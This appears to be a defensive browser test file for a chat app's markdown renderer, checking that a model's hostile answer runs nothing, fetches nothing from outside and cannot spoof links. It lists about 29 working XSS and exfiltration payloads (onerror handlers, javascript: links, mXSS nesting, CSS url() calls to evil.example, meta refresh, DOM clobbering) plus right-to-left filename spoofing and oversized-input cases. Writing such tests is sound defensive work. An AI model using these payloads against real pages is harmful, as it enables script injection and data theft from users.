/** A model that attacks whoever reads it, in a real browser on the real host: nothing runs, nothing leaves, nothing hangs. */
import type { Request } from 'playwright-core';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { startLedModel } from '../e2e/led-model.ts';
import { counts, type Window } from '../e2e/page-driver.ts';
import { tellStory } from '../e2e/story.ts';
import { hostileMarkdown } from '../support/hostile-markdown.ts';

const story = tellStory({ model: startLedModel });
let window: Window;
let outside: string[];
let dialogs: number;

beforeEach(async () => {
  window = await story.open();
  outside = [];
  dialogs = 0;
  const note = (request: Request) => {
    if (!request.url().startsWith(story.host.url)) outside.push(request.url());
  };
  window.context.on('request', note);
  window.page.on('dialog', (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
});
/** Whatever was shown, at the end nothing has run or left, and the page is our page. */
afterEach(async () => {
  const ran = await window.page.evaluate(() => Reflect.get(globalThis, 'pwned') !== undefined);
  const { url, pages } = { url: window.page.url(), pages: window.context.pages().length };
  const refused = window.complaints.filter((line) => /content security policy|refused/iu.test(line));
  await window[Symbol.asyncDispose]();
  expect({ ran, outside, dialogs, pages, refused }).toEqual({
    ran: false,
    outside: [],
    dialogs: 0,
    pages: 1,
    refused: [],
  });
  expect(url.startsWith(`${story.host.url}/`)).toBe(true);
});

/** Lets the model answer with `parts`, as they come; resolves when the end of it is on screen. */
async function show(question: string, parts: readonly string[]): Promise<void> {
  await window.send(question);
  const answer = await story.model.asked(question);
  for (const part of parts) answer.say(part);
  answer.say('\n\nThe end of it.');
  answer.finish();
  await window.log
    .getByText(/in · .* out|first words after/u)
    .first()
    .waitFor();
}

/** A click and a key are answered at once. */
async function answersAtOnce(): Promise<void> {
  const startedAt = performance.now();
  await window.message.click();
  await window.message.fill('still here');
  expect(await window.message.inputValue()).toBe('still here');
  expect(performance.now() - startedAt).toBeLessThan(5_000);
  await window.message.fill('');
}

const run = 'globalThis.pwned=1;alert(1)';
const evil = 'https://evil.example';
const attacks = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${evil}/pixel.png">`,
  `![pixel](${evil}/p.png)`,
  `![pixel][ref]\n\n[ref]: ${evil}/ref.png`,
  `<svg onload="${run}"><image href="${evil}/i.svg"/><script>${run}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<form action="${evil}"><input name=password autofocus onfocus="${run}"><button>Go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  `<link rel="stylesheet" href="${evil}/s.css"><link rel="prefetch" href="${evil}/p">`,
  `<style>body{display:none;background:url(${evil}/b)}@import "${evil}/i.css";</style>`,
  `<div style="position:fixed;inset:0;background:url(${evil}/d)" class="fixed inset-0 z-50">covered</div>`,
  `<video src="${evil}/v" autoplay poster="${evil}/p"></video><audio src="${evil}/a" autoplay></audio>`,
  `<object data="${evil}/o"></object><embed src="${evil}/e">`,
  `<details open ontoggle="${run}"><summary>x</summary>y</details>`,
  `<body onload="${run}"><marquee onstart="${run}">x</marquee>`,
  `<a href="javascript:${run}" onclick="${run}" ping="${evil}">click one</a>`,
  `[click two](javascript:${run})`,
  `[click three](data:text/html,<script>${run}</script>)`,
  `[click four](&#106;avascript&colon;${run})`,
  `[click five](vbscript:x "title\u202e")`,
  `<https://user:pass@evil.example/?q=1> and ${evil}/bare and www.evil.example`,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`,
  `<!--><img src=x onerror=${run}>-->`,
  `\`\`\`html"onmouseover=${run}\n<script>${run}</script>\n\`\`\``,
  `<a id="root" name="body">clobber</a><img name="getElementById">`,
  `<template><script>${run}</script></template><noscript><img src=x onerror="${run}"></noscript>`,
];

describe('an answer that attacks', () => {
  test('runs nothing, fetches nothing and covers nothing', async () => {
    await show(
      'attack me',
      attacks.map((attack) => `${attack}\n\n`),
    );
    const found = await window.answers.evaluate((article) => ({
      forbidden: [
        ...article.querySelectorAll(
          'script,img,svg image,iframe,form,meta,base,link,style,video,audio,object,embed,template',
        ),
      ].length,
      handlers: [...article.querySelectorAll('*')].filter((element) =>
        [...element.attributes].some(
          ({ name }) =>
            /^on|^style$|^ping$/u.test(name) &&
            element.getAttribute(name) !== 'display:contents' &&
            element.getAttribute(name) !== 'display: contents;',
        ),
      ).length,
      fixed: [...article.querySelectorAll('*')].filter((element) => getComputedStyle(element).position === 'fixed')
        .length,
    }));
    expect(found).toEqual({ forbidden: 0, handlers: 0, fixed: 0 });
    for (const name of ['click one', 'click two', 'click three', 'click four', 'click five']) {
      await window.answers.getByText(name).click();
    }
    await answersAtOnce();
  });

  test('asks before it leads anywhere, and shows where', async () => {
    await show('link me', [`[https://bank.example](${evil}/\u200b\u202egpj.exe)`]);
    await window.answers.getByRole('link', { name: 'https://bank.example' }).click();
    const dialog = window.page.getByRole('dialog');
    await dialog.getByText(`${evil}/%E2%80%8B%E2%80%AEgpj.exe`).waitFor();
    await dialog.getByRole('button', { name: 'Stay here' }).click();
  });

  test('turns no text around but its own', async () => {
    await show('turn around', ['Safe: \u202Egpj.exe\u2066\n\nand `a\u202Eb` and &#x202e;c']);
    const text = await window.answers.innerText();
    expect(text).not.toMatch(/[\u202A-\u202E]/u);
    expect(text).toContain('Safe: [U+202E]gpj.exe');
    expect(text).toContain('The end of it.');
  });

  test('is shown in bounded time, and the page answers meanwhile: one long line, deep nesting, huge tables', async () => {
    const large: [string, string][] = [
      ['a line of 1 MB', 'x'.repeat(1_000_000)],
      [
        'a table of 5,000 rows',
        `| a | b | c |\n|---|---|---|\n${'| 1 | **x** | [y](http://z.example) |\n'.repeat(5_000)}`,
      ],
      ...[...hostileMarkdown(100_000)].filter(([name]) =>
        /^nested (?:quotes|links|emphasis|tags)$|^open brackets$/u.test(name),
      ),
    ];
    for (const [name, text] of large) {
      const startedAt = performance.now();
      await window.send(name);
      const answer = await story.model.asked(name);
      for (let at = 0; at < text.length; at += 20_000) answer.say(text.slice(at, at + 20_000));
      await answersAtOnce();
      answer.finish();
      await window.button('Stop').waitFor({ state: 'hidden' });
      await answersAtOnce();
      expect(performance.now() - startedAt, name).toBeLessThan(30_000);
    }
    await counts(window.answers.getByText('Shown as plain text'), large.length);
    // And again, when the whole conversation is opened at once.
    await window.page.reload();
    await window.answers.first().waitFor();
    await answersAtOnce();
  });
});
